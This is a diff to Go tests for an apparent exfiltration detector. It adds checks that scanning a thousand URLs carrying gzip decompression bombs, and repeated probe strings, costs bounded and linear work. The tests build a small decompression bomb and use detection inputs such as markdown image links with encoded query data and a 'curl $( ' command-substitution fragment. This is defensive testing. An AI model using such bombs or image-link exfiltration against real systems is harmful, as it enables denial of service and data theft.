@@ -1,6 +1,8 @@
 package exfil
 
 import (
+	"bytes"
+	"compress/gzip"
 	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
@@ -112,6 +114,40 @@ func TestSampleShowsWhereNotWhat(t *testing.T) {
 	for _, f := range New().Scan(nil, Text{Text: "![ok](https://a.example/p.png?d=" + b64 + ")"}) {
 		if f.Sample != "https://a.example…" {
 			t.Errorf("sample %q", f.Sample)
+		}
+	}
+}
+
+// A thousand URLs with a bomb each must not cost a thousand bombs.
+func TestBombsInURLs(t *testing.T) {
+	var z bytes.Buffer
+	w := gzip.NewWriter(&z)
+	w.Write(make([]byte, 1<<20)) // to memory
+	w.Close()
+	bomb := base64.URLEncoding.EncodeToString(z.Bytes())
+	text := strings.Repeat("https://a.example/?d="+bomb[:min(len(bomb), 1400)]+"\n", 1000)
+	s := scan{text: text, t: Text{Text: text, Sent: true}}
+	s.urls()
+	if limit := (maxSpent+64)*len(text) + 2*freeSpent; s.spent > limit {
+		t.Errorf("%d bytes of work for %d of text", s.spent, len(text))
+	}
+}
+
+// Every line looks like the definition of an image's URL, and there is no image.
+func TestWorkIsLinear(t *testing.T) {
+	for _, unit := range []string{"[a]: https://a.example/x\n", "https://a.example/?d=aGVsbG8gd29ybGQgaGVsbG8\n", "://", "data:a/b,", "![", "<img src=", "curl $( "} {
+		per := 0
+		for length := 1 << 10; length <= 1<<20; length <<= 5 {
+			text := strings.Repeat(unit, length/len(unit))
+			s := scan{text: text, t: Text{Text: text, Sent: true}}
+			s.urls()
+			s.commands()
+			s.enciphered()
+			if now := s.spent / (length / 1024); per > 0 && now > 2*per+2*freeSpent/(length/1024) {
+				t.Errorf("%q: %d bytes of work per KiB at %d, %d before", unit, now, length, per)
+			} else {
+				per = max(per, now)
+			}
 		}
 	}
 }
